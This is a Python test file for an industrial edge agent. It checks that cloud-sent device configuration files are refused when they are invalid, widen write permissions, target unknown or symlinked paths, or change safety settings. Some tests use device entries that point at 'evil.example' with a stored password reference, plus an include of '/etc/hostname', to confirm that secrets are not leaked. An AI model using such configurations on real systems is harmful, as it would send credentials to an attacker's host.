"""What the agent refuses of device files that the cloud sends: the file on the box stays as it is."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest

from connectors.commands.refusals import Refusal
from connectors.commands.states import CommandState
from edge_agent.commands.executor import Switches
from tests.unit.commands.files_box import NAME, PRESS, Box, living, sha
from tests.virtual_time import virtual_time


def test_what_is_not_valid_is_refused_with_the_checkers_own_messages(tmp_path: Path) -> None:
    bad = PRESS.replace("holding 0", "holdin 0").replace("name: press\n", "nam: press\n")
    report = refused(Box(tmp_path), bad)
    assert report.code is Refusal.FILE_INVALID
    assert f"{NAME}:3:3: " in report.detail
    assert f"{NAME}:7:" in report.detail
    assert "Did you mean" in report.detail


def test_of_very_many_mistakes_some_are_told_and_how_many_there_are_besides(tmp_path: Path) -> None:
    tags = "".join(f"  - {{name: t{at}, at: holdin {at}}}\n" for at in range(300))
    report = refused(Box(tmp_path), f"{PRESS}{tags}")
    assert report.code is Refusal.FILE_INVALID
    assert len(report.detail) <= 2000
    lines = report.detail.splitlines()
    assert lines[-1] == f"and {300 - (len(lines) - 1)} more"


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("max: 250", "max: 2500", "press/speed: it is writable, and that is not as it was"),
        ("holding 1", "holding 9", "press/speed: it is writable, and that is not as it was"),
        ("at: holding 0}", "at: holding 0, writable: {min: 0, max: 1}}", "press/state: it is writable, and that is"),
        ("holding 0", "holding 5", "press/state: a condition looks at it"),
        (", interlock: press/state == 0", "", "press/speed: it is writable, and that is not as it was"),
        ("  tags:", "  plain_commands: allow\n  tags:", "'plain_commands: allow' is new"),
        ("127.0.0.1:502", "127.0.0.9:502", "its connection is another"),
        ("  tags:", "  commands: {go: {steps: [{write: speed, value: 3}]}}\n  tags:", "the command 'go' is new"),
    ],
)  # fmt: skip
def test_a_file_of_the_cloud_cannot_allow_more_than_the_one_before(
    old: str, new: str, said: str, tmp_path: Path
) -> None:
    assert old in PRESS
    report = refused(Box(tmp_path), PRESS.replace(old, new))
    assert report.code is Refusal.FILE_TOO_WIDE
    assert said in report.detail


def test_a_safety_tag_stays_one(tmp_path: Path) -> None:
    safe = PRESS.replace("at: holding 0}", "at: holding 0, safety: true}")
    report = refused(Box(tmp_path, safe), PRESS)
    assert report.code is Refusal.FILE_TOO_WIDE
    assert "'safety: true' is taken away" in report.detail


def test_a_secret_goes_nowhere_else(tmp_path: Path) -> None:
    (tmp_path / "password").write_text("secret")
    oven = """
devices:
- name: oven
  driver: opcua
  endpoint: opc.tcp://{host}:4840
  insecure: true
  security: {{user: lineside, password: "${{file:password}}"}}
  tags: [{{name: zone, at: ns=1;s=zone}}]
"""
    report = refused(Box(tmp_path, oven.format(host="oven.local")), oven.format(host="evil.example"))
    assert report.code is Refusal.FILE_TOO_WIDE
    assert "its connection is another" in report.detail
    assert "secret" not in report.detail.replace("a secret", "")


def test_a_new_device_may_not_name_a_secret(tmp_path: Path) -> None:
    (tmp_path / "password").write_text("hush")
    evil = """
- name: evil
  driver: opcua
  endpoint: opc.tcp://evil.example:4840
  insecure: true
  security: {user: lineside, password: "${file:password}"}
  tags: [{name: zone, at: ns=1;s=zone}]
"""
    report = refused(Box(tmp_path), PRESS + evil)
    assert report.code is Refusal.FILE_TOO_WIDE
    assert "evil: security.password names the secret ${file:password}" in report.detail
    assert "hush" not in report.detail


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("agent.yaml", "the agent's own file is not changed from afar"),
        ("other.yaml", "names no file other.yaml"),
        ("lines/press.yaml", "there is no folder"),
        ("devices/linked.yaml", "reached by a link"),
    ],
)
def test_only_what_the_agents_own_file_includes_is_a_device_file(name: str, said: str, tmp_path: Path) -> None:
    (tmp_path / "elsewhere.yaml").write_text("devices: []\n")
    box = Box(tmp_path)
    (tmp_path / "devices" / "linked.yaml").symlink_to(tmp_path / "elsewhere.yaml")
    report = refused(box, "devices: []\n", name=name)
    assert report.code is Refusal.UNKNOWN_TARGET
    assert said in report.detail
    assert (tmp_path / "elsewhere.yaml").read_text() == "devices: []\n"


def test_a_file_that_was_made_at_the_box_is_replaced_only_by_name(tmp_path: Path) -> None:
    for replaces in (None, "", sha("something else")):
        report = refused(Box(tmp_path / str(replaces)[:4]), PRESS + "#\n", replaces=replaces)
        assert report.code is Refusal.FILE_DIFFERS
        assert sha(PRESS) in report.detail


def test_a_content_that_is_not_the_one_of_its_hash_is_refused(tmp_path: Path) -> None:
    assert refused(Box(tmp_path), PRESS + "#\n", sha256=sha(PRESS)).code is Refusal.MALFORMED


def test_the_engineer_can_refuse_all_files_and_remote_commands_off_does_too(tmp_path: Path) -> None:
    report = refused(Box(tmp_path / "a", more=", remote_files: refuse"), PRESS + "#\n")
    assert (report.code, report.detail) == (Refusal.REMOTE_OFF, "agent.remote_files is refuse")
    off = Switches(remote_commands=False)
    assert refused(Box(tmp_path / "b"), PRESS + "#\n", switches=off).code is Refusal.REMOTE_OFF


@virtual_time
async def test_where_the_engineer_allows_any_file_it_may_allow_more(tmp_path: Path) -> None:
    box = Box(tmp_path, more=", remote_files: any")
    async with living(box.start()) as start:
        start.ask(box.version(PRESS.replace("max: 250", "max: 2500"), replaces=sha(PRESS)))
        await asyncio.sleep(5.0)
        assert start.restarts


@virtual_time
async def test_a_file_with_a_device_that_is_locked_waits_for_its_operator(tmp_path: Path) -> None:
    box = Box(tmp_path)
    async with living(box.start()) as start:
        await start.commands.operators.lock("press", "hands in the press", "carla")
        report = await start.done(start.ask(box.version(PRESS + "#\n", replaces=sha(PRESS))))
        assert (report.state, report.code) == (CommandState.REFUSED, Refusal.LOCKED)
        assert "hands in the press" in report.detail
        assert (start.restarts, box.content) == ([], PRESS)


@virtual_time
async def test_a_file_does_not_cut_off_what_is_being_done(tmp_path: Path) -> None:
    box = Box(tmp_path)
    async with living(box.start()) as start:
        start.press.write_s = 25.0
        start.send(start.envelope("speed", 2))
        await asyncio.sleep(1.0)
        report = await start.done(start.ask(box.version(PRESS + "#\n", replaces=sha(PRESS))))
        assert (report.state, report.code) == (CommandState.REFUSED, Refusal.BUSY)
        assert (start.restarts, box.content) == ([], PRESS)


def refused(box: Box, content: str, *, switches: Switches | None = None, **more: Any) -> Any:
    """The report of a file that is refused; the file on the box is as it was."""
    before, found = box.content, []
    if "replaces" not in more:
        more["replaces"] = None if before is None or "name" in more else sha(before)

    @virtual_time
    async def scenario() -> None:
        async with living(box.start(switches)) as start:
            report = await start.done(start.ask(box.version(content, **more)))
            assert report.state is CommandState.REFUSED, report
            assert start.restarts == []
            found.append(report)

    scenario()
    assert box.content == before
    return found[0]


TEMPLATE = """
templates:
  valve:
    parameters: {top: integer, host: text}
    device:
      driver: modbus
      endpoint: tcp://$(host):502
      tags: [{name: opening, at: holding 1, writable: {min: 0, max: $(top)}}]
devices: [{name: valve, template: valve, with: {top: 100, host: 127.0.0.1}}]
"""


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("top: 100", "top: 1000", "valve/opening: it is writable, and that is not as it was"),
        ("max: $(top)}", "max: $(top + 1)}", "valve/opening: it is writable, and that is not as it was"),
        ("host: 127.0.0.1", "host: 127.0.0.9", "valve: its connection is another"),
        ("valve, with", "valve, plain_commands: allow, with", "'plain_commands: allow' is new"),
        ("devices:", "defaults: {all: {plain_commands: allow}}\ndevices:", "'plain_commands: allow' is new"),
    ],
)
def test_what_templates_and_defaults_make_of_a_device_is_what_is_compared(
    old: str, new: str, said: str, tmp_path: Path
) -> None:
    assert old in TEMPLATE
    report = refused(Box(tmp_path, TEMPLATE), TEMPLATE.replace(old, new))
    assert report.code is Refusal.FILE_TOO_WIDE
    assert said in report.detail


def test_a_template_of_the_box_does_not_carry_its_secret_to_a_new_device(tmp_path: Path) -> None:
    (tmp_path / "password").write_text("hush")
    (tmp_path / "library.yaml").write_text(
        """
templates:
  press:
    parameters: {host: text}
    device:
      driver: opcua
      endpoint: opc.tcp://$(host):4840
      insecure: true
      security: {user: lineside, password: "${file:password}"}
      tags: [{name: zone, at: ns=1;s=zone}]
"""
    )
    box = Box(tmp_path)
    box.config.write_text(box.config.read_text().replace("include: [", "include: [library.yaml, "))
    evil = "- {name: evil, template: press, with: {host: evil.example}}\n"
    report = refused(box, PRESS + evil)
    assert report.code is Refusal.FILE_TOO_WIDE
    assert "evil: security.password names the secret ${file:password}, and did not before" in report.detail


def test_a_file_that_is_sent_includes_no_others(tmp_path: Path) -> None:
    report = refused(Box(tmp_path), f"include: [/etc/hostname]\n{PRESS}")
    assert report.code is Refusal.FILE_INVALID
    assert f"{NAME}:1:1: a device file that is sent includes no others. Remove 'include' from it." in report.detail
